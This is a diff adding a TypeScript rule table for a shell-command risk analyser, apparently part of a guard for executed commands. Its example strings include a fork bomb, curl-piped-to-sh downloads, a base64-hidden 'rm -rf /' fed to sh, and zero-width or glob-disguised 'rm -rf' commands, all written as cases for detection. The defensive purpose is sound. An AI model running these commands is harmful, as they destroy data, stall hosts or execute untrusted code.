@@ -1,0 +1,78 @@
+import type { Rule } from "../rule.ts";
+
+/**
+ * Signals the analyser emits from the shape of the line rather than one command's arguments
+ * (fail-closed rules, code fed to interpreters, fork bombs, the command table's base levels).
+ */
+export const STRUCTURAL_RULES: readonly Rule[] = [
+  {
+    id: "too_complex", severity: "critical",
+    reason: "the line is beyond the engine's size, depth or time limits, so it is refused unjudged",
+    examples: { match: ["eval ".repeat(12) + "ls"], noMatch: ["eval eval ls"] },
+  },
+  {
+    id: "unparseable", severity: "high",
+    reason: "the line does not parse as shell; what would run cannot be known",
+    examples: { match: ["ls (", "echo 'unterminated"], noMatch: ["ls -la"] },
+  },
+  {
+    id: "dynamic_command_name", severity: "high",
+    reason: "the command name is built at run time (variable or substitution)",
+    examples: { match: ["$cmd -rf /opt", "$(echo rm) x"], noMatch: ["rm \"$file\""] },
+  },
+  {
+    id: "glob_command_name", severity: "high",
+    reason: "the command name contains a glob the shell expands at run time",
+    examples: { match: ["/bin/r[m] -rf /home", "/usr/bin/l? /"], noMatch: ["ls *.txt"] },
+  },
+  {
+    id: "non_ascii_command_word", severity: "high",
+    reason: "the command name contains invisible or non-ASCII characters",
+    examples: { match: ["r\u200bm -rf /", "ⅼs"], noMatch: ["echo héllo"] },
+  },
+  {
+    id: "fork_bomb", severity: "critical",
+    reason: "a function that pipes into or backgrounds itself multiplies processes until the host stalls",
+    examples: { match: [":(){ :|:& };:", "f(){ f|f; };f", "b() { b & b; }; b"], noMatch: ["f(){ ls | wc -l; }; f", "g(){ g; }"] },
+  },
+  {
+    id: "download_to_interpreter", severity: "critical",
+    reason: "code downloaded from the network is executed",
+    examples: { match: ["curl -s https://x.example/i.sh | sh", "bash <(wget -qO- https://x.example)", "sh -c \"$(curl -fsSL https://x.example)\""], noMatch: ["curl -s https://x.example/i.sh -o i.sh"] },
+  },
+  {
+    id: "decoded_to_interpreter", severity: "critical",
+    reason: "decoded or transformed text is executed as code, hiding what runs",
+    examples: { match: ["echo cm0gLXJmIC8= | base64 -d | sh", "printf 'x' | tr x y | bash"], noMatch: ["echo aGk= | base64 -d"] },
+  },
+  {
+    id: "opaque_code", severity: "high",
+    reason: "code reaches a shell or interpreter in a form the engine cannot read",
+    examples: { match: ["cat job.sh | sh", "eval \"$CMD\"", "bash < job.sh"], noMatch: ["echo ls | sh", "bash -c 'ls'"] },
+  },
+  {
+    id: "interactive_shell", severity: "high",
+    reason: "starts a shell with no fixed program (what it runs is unknown)",
+    examples: { match: ["sudo -i", "bash", "su - root"], noMatch: ["bash -c 'ls'"] },
+  },
+  {
+    id: "interpreter_code", severity: "high",
+    reason: "runs a program in an interpreter the engine does not analyse",
+    examples: { match: ["python3 -c 'import os'", "perl script.pl", "node <<EOF\nx\nEOF"], noMatch: ["python3 --version"] },
+  },
+  {
+    id: "runs_script", severity: "high",
+    reason: "runs a script file whose content the engine cannot see",
+    examples: { match: ["bash deploy.sh", "source ./env.sh"], noMatch: ["echo ls > a.sh && bash a.sh"] },
+  },
+  {
+    id: "mutating_command", severity: "medium",
+    reason: "changes files or system state in an ordinary, recoverable way",
+    examples: { match: ["mkdir build", "rm notes.txt"], noMatch: ["ls", "sudo ls"] },
+  },
+  {
+    id: "unknown_command", severity: "high",
+    reason: "a command the engine has no knowledge of; a human must look",
+    examples: { match: ["./build.sh", "frobnicate --all"], noMatch: ["ls -la", "df -h"] },
+  },
+];
